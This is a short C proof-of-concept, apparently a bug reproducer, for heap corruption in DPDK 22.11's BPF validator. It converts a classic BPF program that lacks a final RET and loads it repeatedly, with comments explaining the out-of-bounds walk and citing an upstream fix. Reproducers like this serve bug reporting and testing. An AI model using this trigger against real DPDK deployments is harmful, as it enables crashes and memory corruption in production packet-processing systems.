/*
 * DPDK 22.11 rte_bpf_load(): a program that does not end in EXIT makes the validator add an edge to
 * instruction nb_ins (add_edge tests `nidx > nb_ins`), and its graph walk reads and writes past its
 * node array: heap corruption. A classic program without a final RET converts to such a program.
 * Fixed upstream by cee21cc5be ("bpf: disallow empty program", 2026); not in 22.11.11. Build with
 * DPDK (and the libpcap headers rte_bpf_convert needs):
 *   cc -O2 -o dpdk-validator-no-exit-overflow dpdk-validator-no-exit-overflow.c $(pkg-config --cflags --libs libdpdk) -lpcap
 *   ./dpdk-validator-no-exit-overflow      (glibc reports the corruption, or run it under valgrind)
 */
#define ALLOW_EXPERIMENTAL_API
#include <stdio.h>
#include <pcap/pcap.h>
#include <rte_bpf.h>
#include <rte_eal.h>
#include <rte_errno.h>

int main(void)
{
	char *eal[] = { "repro", "--no-huge", "-m", "64", "--no-pci", "--no-shconf", "--log-level=lib.eal:error", "--no-telemetry" };
	if (rte_eal_init(8, eal) < 0)
		return 1;
	for (int i = 0; i < 100; i++) {
		struct bpf_insn insns[] = { BPF_STMT(BPF_LD | BPF_IMM, 1) }; /* no RET */
		struct bpf_program prog = { 1, insns };
		struct rte_bpf_prm *prm = rte_bpf_convert(&prog);
		struct rte_bpf *bpf = rte_bpf_load(prm);
		printf("%d: rte_bpf_load: %s\n", i, bpf ? "loaded" : rte_strerror(rte_errno));
		fflush(stdout);
	}
	return 0;
}
